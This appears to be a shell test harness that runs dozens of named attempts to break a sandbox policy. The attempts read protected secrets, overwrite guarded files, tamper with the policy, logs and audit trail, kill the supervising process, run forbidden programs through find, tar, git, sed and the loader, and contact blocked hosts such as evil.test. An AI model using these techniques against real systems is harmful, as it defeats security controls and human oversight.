#!/bin/sh
# Attempts to get around a policy from a POSIX shell. As attempts.py: ids from a pipe, one a line; each runs in a shell
# of its own, for a few seconds, and is answered by "ID<tab>answer" at once.
#
#   attempts.sh STAGE ASKED     attempts.sh list     attempts.sh try STAGE ID SUPERVISOR
#
# Whatever an attempt says is only its answer: the judge looks at what came of it. So no error ends an attempt.
# shellcheck disable=SC2154,SC2034,SC1090,SC2150 # The variables s_… are the stage's; sourcing and -exec are attacks.
set -u

# The stage: lines of "name=value".
stage() {
    while IFS='=' read -r name value; do
        eval "s_$name=\$value"
    done <"$1"
    victim=$s_outside/$id/kept
    new=$s_outside/$id/new
    own=$s_work/$id.own
    forged="FORGED $id"
    # The parent of the program that was started, which is the parent of this shell's parent.
    supervisor=$s_supervisor
}

# What is tried; "list" finds the names by their place in the line.
tries() {
    case $id in
    sh-read-cat) cat "$s_secret" ;;
    sh-read-builtin) read -r line <"$s_secret"; echo "$line" ;;
    sh-read-descriptor) exec 7<"$s_secret"; read -r line <&7; echo "$line" ;;
    sh-read-both) exec 7<>"$s_secret"; read -r line <&7; echo "$line" ;;
    sh-read-dot) . "$s_secret" ;;
    sh-read-dots) cat "$s_work/../../../../../..$s_secret" ;;
    sh-read-cd) cd "${s_secret%/*}" && cat token ;;
    sh-read-symlink) ln -s "$s_secret" "$own"; cat "$own" ;;
    sh-read-hard-link) ln "$s_near" "$own"; cat "$own" ;;
    sh-read-move) mv "$s_near" "$own"; cat "$own" ;;
    sh-read-move-folder) mv "${s_near%/*}" "$own"; cat "$own/token" ;;
    sh-read-proc-root) cat "/proc/self/root$s_secret" ;;
    sh-read-parent-root) cat "/proc/$supervisor/root$s_secret" ;;
    sh-read-parent-environment) tr '\0' '\n' <"/proc/$supervisor/environ" ;;
    sh-read-glob) echo "$s_names"/* ;;
    sh-read-loop) while read -r line; do echo "$line"; done <"$s_secret" ;;
    sh-read-stdin) sed -n p <"$s_secret" ;;
    sh-read-tar) tar -cPf - "$s_secret" | tr -d '\0' ;;
    sh-read-copy) cp "$s_secret" "$own"; cat "$own" ;;
    sh-read-trace) set -x; . "$s_secret" ;;
    sh-read-startup) ENV=$s_secret sh -i -c : </dev/null ;;
    sh-read-blocked) cat "$s_blocked" ;;
    sh-read-blocked-move) mv "${s_blocked%/*}" "$own"; cat "$own/token" ;;
    sh-read-blocked-link) ln "$s_blocked" "$own"; cat "$own" ;;
    sh-read-race)
        echo nothing >"$own"
        (while :; do ln -sf "$own" "$own.link"; ln -sf "$s_secret" "$own.link"; done) &
        for _ in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 \
            1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25; do cat "$own.link"; done
        kill $! ;;
    sh-write-redirect) echo "$forged" >"$victim" ;;
    sh-write-clobber) set -C; echo "$forged" >|"$victim" ;;
    sh-write-both) echo "$forged" 1<>"$victim" ;;
    sh-write-append) echo "$forged" >>"$victim" ;;
    sh-write-empty) : >"$victim" ;;
    sh-write-descriptor) exec 8>"$victim"; echo "$forged" >&8 ;;
    sh-write-document) cat >"$victim" <<X
$forged
X
        ;;
    sh-write-symlink) ln -s "$victim" "$own"; echo "$forged" >"$own" ;;
    sh-write-dangling) ln -s "$new" "$own"; echo "$forged" >"$own" ;;
    sh-write-proc-fd) exec 9<"$victim"; echo "$forged" >/proc/self/fd/9 ;;
    sh-write-rename) echo "$forged" >"$own"; mv -f "$own" "$victim" ;;
    sh-write-remove) find "$victim" -delete ;;
    sh-write-sed) sed -i 's/k/X/' "$victim" ;;
    sh-write-awk) awk 'BEGIN { print "FORGED" > ARGV[1] }' "$victim" ;;
    sh-write-mode) chmod 444 "$victim" ;;
    sh-policy-write) echo "$forged" >"$s_policy" ;;
    sh-policy-rename) echo "$forged" >"$own"; mv -f "$own" "$s_policy" ;;
    sh-policy-compiled) echo "$forged" >"$s_compiled" ;;
    sh-log-empty) : >"$s_log" ;;
    sh-log-append) printf '\n%s\n' "$forged" >>"$s_log" ;;
    sh-trail-read) cat "$s_trail" ;;
    sh-trail-remove) find "$s_trail" -delete ;;
    sh-trail-append) printf '\n%s\n' "$forged" >>"$s_trail" ;;
    sh-trail-inherited) for n in 3 4 5 6 7 8 9; do eval "printf '\n%s\n' \"\$forged\" >&$n"; done ;;
    sh-trail-descriptor) for n in 3 4 5 6 7; do printf '\n%s\n' "$forged" >>"/proc/$supervisor/fd/$n"; done ;;
    sh-policy-remove) find "$s_policy" -delete ;;
    sh-log-replace) echo "$forged" >"$own"; mv -f "$own" "$s_log" ;;
    sh-code-remove) find "$s_launcher" -delete ;;
    sh-code-write) echo "$forged" >"$s_code" ;;
    sh-run-path) "$s_forbidden" ;;
    sh-run-exec) exec "$s_forbidden" ;;
    sh-run-command) command "$s_forbidden" ;;
    sh-run-eval) eval "$s_forbidden" ;;
    sh-run-newline) eval "echo hi
$s_forbidden" ;;
    sh-run-function) echo() { "$s_forbidden"; }; echo hi ;;
    sh-run-path-first) mkdir "$own"; ln -s "$s_forbidden" "$own/echo"; PATH=$own; command -p env "PATH=$own" echo ;;
    sh-run-symlink) ln -s "$s_forbidden" "$own"; "$own" ;;
    sh-run-hard-link) ln "$s_near_program" "$own"; "$own" ;;
    sh-run-copy) cp "$s_forbidden" "$own"; "$own" ;;
    sh-run-copy-by-cat) cat "$s_forbidden" >"$own"; chmod 755 "$own"; "$own" ;;
    sh-run-loader) for ld in /lib*/ld-linux*.so.*; do "$ld" "$s_forbidden_dynamic"; done ;;
    sh-run-loader-perl) for ld in /lib*/ld-linux*.so.*; do "$ld" /usr/bin/perl -e "print $s_nonce*7919"; done ;;
    sh-run-preload) LD_PRELOAD=$s_forbidden_library ls ;;
    sh-run-perl) perl -e "print $s_nonce*7919" ;;
    sh-run-perl-copy) cat /usr/bin/perl >"$own"; chmod 755 "$own"; "$own" -e "print $s_nonce*7919" ;;
    sh-run-bash) bash -c "echo \$(($s_nonce*7919))" ;;
    sh-run-python) python3 -c "print($s_nonce*7919)" ;;
    sh-run-shebang) printf '#!%s\n' "$s_forbidden" >"$own"; chmod 755 "$own"; "$own" ;;
    sh-run-trap) trap '"$s_forbidden"' EXIT ;;
    sh-via-find) find /etc/passwd -exec "$s_forbidden" \; ;;
    sh-via-tar) tar -cf /dev/null /etc/passwd --checkpoint=1 --checkpoint-action=exec="$s_forbidden" ;;
    sh-via-git) git -c "alias.x=!$s_forbidden" x ;;
    sh-via-sed) sed "1e $s_forbidden" /etc/hostname ;;
    sh-via-awk) awk "BEGIN { system(\"$s_forbidden\") }" ;;
    sh-via-env) env "$s_forbidden" ;;
    sh-via-xargs) echo x | xargs "$s_forbidden" ;;
    sh-allowed-awk) awk "BEGIN { printf \"%.0f\", $s_nonce*7919 }" ;;
    sh-own-arithmetic) echo $((s_nonce * 7919)) ;;
    sh-own-shell) sh -c "echo \$(($s_nonce * 7919))" ;;
    sh-kill-kill) kill -KILL "$supervisor"; sleep 0.4 ;;
    sh-kill-stop) kill -STOP "$supervisor"; sleep 0.4 ;;
    sh-kill-memory-killer) echo 1000 >"/proc/$supervisor/oom_score_adj" ;;
    sh-tcp-git) git ls-remote "git://$s_blocked4:$s_port/$id" ;;
    sh-tcp-git-six) git ls-remote "git://[$s_blocked6]:$s_port/$id" ;;
    sh-tcp-git-trap) git ls-remote "git://trap.test:$s_port/$id" ;;
    sh-tcp-git-http) GIT_HTTP_USER_AGENT=$id git ls-remote "http://$s_other4:$s_port/$id" ;;
    sh-name-git) git ls-remote "git://$id.evil.test/x" ;;
    *) echo "no such attempt: $id"; return 64 ;;
    esac
}

self=$0
case ${1-} in
list)
    sed -n 's/^    \(sh-[a-z0-9-]*\)).*/\1/p' "$self"
    ;;
try)
    id=$3
    s_supervisor=$4
    stage "$2"
    HOME=$s_work
    export HOME
    cd "$s_work" || exit
    tries
    ;;
*)
    while read -r id; do
        # The whole group ends with its time; timeout is the group's leader.
        said=$(timeout -k 1 8 sh "$self" try "$1" "$id" "$PPID" 2>&1 </dev/null | tr '\n\t\r' '   ' | cut -c 1-4000)
        printf '%s\t%s\n' "$id" "$said"
    done <"$2"
    ;;
esac
